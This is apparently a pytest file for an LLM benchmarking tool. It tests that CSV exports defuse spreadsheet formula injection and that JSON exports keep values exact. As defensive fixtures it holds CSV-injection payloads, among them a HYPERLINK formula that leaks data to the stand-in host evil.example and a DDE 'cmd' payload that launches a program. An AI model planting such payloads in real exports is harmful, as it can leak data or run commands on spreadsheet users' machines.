"""CSV exports never hand a spreadsheet a formula; JSON and JSON Lines keep values exactly.

A hostile endpoint (or a model or provider name) controls text that ends up in exported
cells. A CSV cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
run as a formula by spreadsheets (OWASP "CSV injection"): such text cells get a leading
``'``; numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import asyncio
import csv
import dataclasses
import json
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from llmbench_jupyter.core.records import RECORD_FIELDS, RequestRecord
from llmbench_jupyter.core.targets import adhoc
from llmbench_jupyter.jobs.bench_run import arun
from llmbench_jupyter.jobs.specs import build_bench_spec
from llmbench_jupyter.sim import SimServer
from llmbench_jupyter.store import Store, open_store
from llmbench_jupyter.store.export import csv_cell

MODEL = '=HYPERLINK("http://evil.example/?leak","click")'
PROVIDER = "+1"
ANSWER = "-2+3"
ERRORS = ["@SUM(A1:A9)", "\t=1+1", "\r-2", "=cmd|' /C calc'!A0"]


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Store, str]]:
    """A real run against a sim whose model name and answer are formulas, plus error
    records whose messages are (as a hostile endpoint's error body could make them)."""
    sim = SimServer(
        seed=0,
        rules=[{"match": ".", "content": ANSWER}],
        scenarios={MODEL: "sim:ttft=2,itl=1,out=4"},
    ).start_in_thread()
    try:
        store = open_store(f"sqlite:///{tmp_path_factory.mktemp('csvinj') / 's.db'}")
        spec, _ = build_bench_spec(model=["sim-fast"], runs=2, warmup=0, max_tokens=16)
        spec.targets = [dataclasses.replace(adhoc(sim.base_url, MODEL), provider=PROVIDER)]
        result = asyncio.run(arun(spec, store=store, owner="me", sim_url=sim.base_url))
        run_id = result.run_id or ""
        assert [r.output_text for r in result.records] == [ANSWER, ANSWER]
        for i, message in enumerate(ERRORS):
            store.add_record(
                RequestRecord(
                    request_id=f"err-{uuid.uuid4().hex[:8]}",
                    run_id=run_id,
                    owner="me",
                    provider=PROVIDER,
                    model=MODEL,
                    api_model=MODEL,
                    send_mono_ns=2**62 + i,  # after the measured requests
                    send_lag_ms=-1.5,
                    status="error",
                    error_category="http_500",
                    error_message=message,
                )
            )
        yield store, run_id
    finally:
        sim.stop_thread()


def _read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_cells_that_would_be_formulas_get_a_quote(
    hostile_run: tuple[Store, str], tmp_path: Path
) -> None:
    store, run_id = hostile_run
    assert store.export(run_id, tmp_path / "r.csv") == 2 + len(ERRORS)
    rows = _read_csv(tmp_path / "r.csv")
    assert list(rows[0]) == list(RECORD_FIELDS)
    for row in rows:
        assert row["model"] == row["api_model"] == "'" + MODEL
        assert row["provider"] == "'" + PROVIDER
        assert row["status"] in ("ok", "error")  # ordinary text is untouched
    assert [r["output_text"] for r in rows[:2]] == ["'" + ANSWER] * 2
    assert [r["error_message"] for r in rows[2:]] == ["'" + m for m in ERRORS]
    # numbers are not text: a negative float stays a number the spreadsheet can add up
    assert [r["send_lag_ms"] for r in rows[2:]] == ["-1.5"] * len(ERRORS)
    # list fields are JSON text, read back exactly
    assert all(isinstance(json.loads(r["chunk_times_ms"]), list) for r in rows)


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_exports_keep_the_exact_values(
    hostile_run: tuple[Store, str], tmp_path: Path, fmt: str
) -> None:
    store, run_id = hostile_run
    path = tmp_path / f"r.{fmt}"
    store.export(run_id, path)
    text = path.read_text(encoding="utf-8")
    rows: list[dict[str, Any]] = (
        json.loads(text) if fmt == "json" else [json.loads(x) for x in text.splitlines()]
    )
    assert rows == [r.to_dict() for r in store.records(run_id)]
    assert {r["model"] for r in rows} == {MODEL} and {r["provider"] for r in rows} == {PROVIDER}
    assert [r["output_text"] for r in rows[:2]] == [ANSWER] * 2
    assert [r["error_message"] for r in rows[2:]] == ERRORS
    assert [r["send_lag_ms"] for r in rows[2:]] == [-1.5] * len(ERRORS)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("a=1", "a=1"),
        ("", ""),
        (-1.5, -1.5),
        (-3, -3),
        (None, None),
        (True, True),
    ],
)
def test_csv_cell(value: Any, cell: Any) -> None:
    assert csv_cell(value) == cell
    assert type(csv_cell(value)) is type(cell)
